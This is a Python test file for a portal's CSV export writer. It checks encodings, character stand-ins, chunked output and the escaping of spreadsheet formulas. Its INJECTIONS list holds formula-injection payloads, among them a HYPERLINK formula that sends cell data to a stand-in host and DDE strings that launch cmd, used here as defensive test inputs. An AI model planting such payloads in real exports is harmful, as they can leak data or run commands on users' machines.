"""The CSV writer of the exports: `;`-separated, UTF-8 with its BOM or Windows-1252 with sensible stand-ins, and no
text cell a spreadsheet would run as a formula (numbers the portal computes stay numbers)."""
from __future__ import annotations

import csv
import io

import pytest

from storage.exports.csv_file import (UTF8_BOM, Cents, cell, cp1252_stand_in, csv_bytes, csv_chunks, encode_cp1252,
                                      neutralised)

INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")", "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0=1+1", "＝1+1"]


def parsed(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=";"))


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["MARTIN", "Rue de l'Église", "06 12 34 56 78", "a=b", "x-1", "", "'déjà"])
def test_ordinary_text_is_left_alone(text):
    assert neutralised(text) == text


def test_numbers_the_portal_computes_stay_numbers():
    assert [cell(Cents(-1250)), cell(Cents(123456)), cell(Cents(5)), cell(Cents(0))] == ["-12,50", "1234,56", "0,05",
                                                                                          "0,00"]
    assert [cell(42), cell(-3), cell(None), cell(True), cell(False)] == ["42", "-3", "", "Oui", "Non"]
    assert cell("-12,50") == "'-12,50"  # the same text typed by someone is not trusted


def test_utf8_starts_with_its_bom_and_keeps_every_character():
    rows = [["Nom", "Adresse"], ["Chloé Ñúñez Łukasz Nguyễn 😀", "12 rue de l'Œuvre; bât. « A »\nRésidence"],
            ["=1+1", Cents(-700)]]
    data = csv_bytes(rows, "utf-8")
    assert data.startswith(UTF8_BOM) and not data[3:].startswith(UTF8_BOM)
    assert parsed(data[len(UTF8_BOM):], "utf-8") == [["Nom", "Adresse"],
                                                     ["Chloé Ñúñez Łukasz Nguyễn 😀",
                                                      "12 rue de l'Œuvre; bât. « A »\nRésidence"],
                                                     ["'=1+1", "-7,00"]]
    assert b"\r\n" in data and data.count(b";") >= 3


def test_windows_1252_keeps_french_and_replaces_the_rest_sensibly():
    rows = [["Élodie Œillet", "Garçon; 250 € — « ok »"], ["Dragoș Łukasz Nguyễn", "😀 ﬁn 12\u202f345 \u2212 1"]]
    data = csv_bytes(rows, "windows-1252")
    assert not data.startswith(UTF8_BOM)
    assert "Élodie Œillet".encode("cp1252") in data and "€ — « ok »".encode("cp1252") in data
    assert parsed(data, "cp1252") == [["Élodie Œillet", "Garçon; 250 € — « ok »"],
                                      ["Dragos Lukasz Nguyen", "? fin 12 345 - 1"]]


def test_stand_ins_never_fail():
    assert [cp1252_stand_in(c) for c in "őșłŁ漢\u2011"] == ["o", "s", "l", "L", "?", "-"]
    assert encode_cp1252("".join(chr(c) for c in range(0x20, 0x3000))).count(b"?") > 0  # whole planes: no error


def test_large_files_come_in_chunks_equal_to_the_whole():
    rows = [["n°", "texte"]] + [[i, f"ligne {i} é"] for i in range(20_000)]
    chunks = list(csv_chunks(rows, "utf-8"))
    assert len(chunks) > 3
    assert b"".join(chunks) == csv_bytes(rows, "utf-8")
    assert len(parsed(b"".join(chunks)[3:], "utf-8")) == 20_001
